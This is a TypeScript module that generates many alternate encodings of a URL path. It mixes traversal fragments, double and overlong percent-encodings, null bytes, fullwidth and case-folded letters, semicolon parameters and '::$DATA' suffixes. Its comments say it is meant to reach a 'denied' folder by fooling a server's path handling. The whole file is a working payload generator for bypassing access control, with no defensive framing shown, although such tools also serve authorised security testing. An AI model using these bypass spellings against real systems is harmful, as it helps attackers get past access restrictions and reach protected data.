/**
 * Spellings of a path that some server reads as the path itself: each part written in every way that a server has been
 * seen to read away, and the parts combined.
 */

/** In front of the path: other ways to begin at the root. */
const BEFORE = [
  ...[
    '',
    '/.',
    '/..',
    '/%2e',
    '/%2e%2e',
    '/x/..',
    '/x/%2e%2e',
    '/x/.%2e',
    '/x/..;',
    '/x/..;a=b',
    '/x;/..',
    '/;/..',
    '/;x',
  ],
  ...[
    '/files/..',
    '/files/%2e%2e',
    '/files/..%2f',
    '/files/..%5c',
    '/files/%2e%2e%2f',
    '/files/..\\',
    '/files/..%00',
    '/files//..',
  ],
  ...[
    '//x',
    '//x:80',
    '/\\x',
    '/\\/x',
    '\\\\x',
    '///x',
    '//',
    '/%2f',
    '/%5c',
    '/%2f%2fx',
    'http://x',
    'http:',
    '/http://x',
    '//@x',
  ],
  ...[
    '/a%/x/..',
    '/%zz/..',
    '/%u002e%u002e',
    '/x/%u002e%u002e',
    '/%c0%ae%c0%ae',
    '/x/%c0%ae%c0%ae',
    '/x/%252e%252e',
    '/x/...',
  ],
  ...[
    '/x/..%00',
    '/x/.. ',
    '/x/..%20',
    '/x/..%09',
    '/x/%2e%2e%3b',
    '/x/..%3b',
    '/x/.%00./',
    '/x/y/../..',
    '/x//..',
    '/x/./..',
  ],
];

/** For the slashes inside the path. */
const SLASHES = [
  ...[
    '/',
    '//',
    '///',
    '/./',
    '/%2e/',
    '/.;/',
    '/;/',
    '/;a=b/',
    '/x/../',
    '/x/%2e%2e/',
    '/x/..;/',
    '/x/..%2f',
    '/%00/',
  ],
  ...['%2f', '%2F', '%252f', '%5c', '\\', '/\\', '\\/', '%u002f', '%c0%af', '%ef%bc%8f', '/.%2f', '/%2e%2f', '%2f/'],
  ...[
    ';/',
    ';a=b/',
    ';a/b=c/',
    '%3b/',
    './',
    '../',
    '%20/',
    ' /',
    '%09/',
    '%00/',
    '%0d%0a/',
    '?/',
    '%3f/',
    '%23/',
    '#/',
    ':/',
    '::$DATA/',
  ],
];

/** Behind the path. */
const BEHIND = [
  ...[
    '',
    '/',
    '//',
    '/.',
    '/x',
    '.',
    '..',
    '...',
    '%20',
    '%20.',
    '%2e',
    '%00',
    '%00.png',
    '%0a',
    '%09',
    '/x/..',
    '/%2e',
  ],
  ...[
    ';x',
    ';',
    ';/',
    '%3b',
    '?x',
    '?',
    '%3fx',
    '#x',
    '%23x',
    '\\',
    '%5c',
    '/..;/',
    '::$DATA',
    ':',
    '~',
    '%',
    '%e2%80%8b',
    '%c2%ad',
  ],
];

/** Ways to write one letter. */
const letters = (letter: string): string[] => {
  const hex = letter.charCodeAt(0).toString(16);
  const overlong = `%c1%${(0x80 | (letter.charCodeAt(0) & 0x3f)).toString(16)}`;
  const wide = encodeURIComponent(String.fromCodePoint(0xfee0 + letter.charCodeAt(0)));
  const folded = { s: '%c5%bf', k: '%e2%84%aa', i: '%c4%b0' }[letter];
  return [
    `%${hex}`,
    `%${hex.toUpperCase()}`,
    `%25${hex}`,
    `%u00${hex}`,
    overlong,
    wide,
    letter.toUpperCase(),
    ...(folded ? [folded] : []),
  ];
};

/** The name with one letter written otherwise, for each letter, and in capitals. */
function namesOf(name: string): string[] {
  const changed = [...name].flatMap((letter, at) =>
    letters(letter).map((other) => name.slice(0, at) + other + name.slice(at + 1)),
  );
  return [name, name.toUpperCase(), ...changed];
}

/** Every single change of `path`, and so many of the combinations, the same in every run. */
export function spellingsOf(path: string, combinations: number): string[] {
  const names = path.split('/').slice(1);
  const last = names.length - 1;
  // The folder that is denied is one of these; the others stay as they are.
  const spelled = names.map(namesOf);
  const build = (before: string, slash: string, name: string, at: number, behind: string): string => {
    const written = names.map((plain, i) => (i === at ? name : plain));
    return `${before}${written.map((text, i) => (i === 0 ? '/' : slash) + text).join('')}${behind}`.replace(
      /^(?=[^/\\h])/,
      '/',
    );
  };
  const all = new Set<string>();
  for (const before of BEFORE) all.add(build(before, '/', names[0]!, 0, ''));
  for (const slash of SLASHES) all.add(build('', slash, names[0]!, 0, ''));
  for (const behind of BEHIND) all.add(build('', '/', names[0]!, 0, behind));
  for (let at = 0; at <= last; at++) for (const name of spelled[at]!) all.add(build('', '/', name, at, ''));
  for (let i = 1; all.size < combinations; i++) {
    const pick = <T>(list: readonly T[], prime: number): T =>
      list[(i * prime + Math.floor(i / list.length)) % list.length]!;
    const at = i % names.length;
    // Half of all combinations leave a part as it is: a server that is deceived by one change may refuse two.
    const slash = i % 4 === 0 ? '/' : pick(SLASHES, 7);
    const name = i % 4 === 1 ? names[at]! : pick(spelled[at]!, 11);
    const behind = i % 4 === 2 ? '' : pick(BEHIND, 5);
    all.add(build(i % 8 === 3 ? '' : pick(BEFORE, 13), slash, name, at, behind));
  }
  return [...all];
}
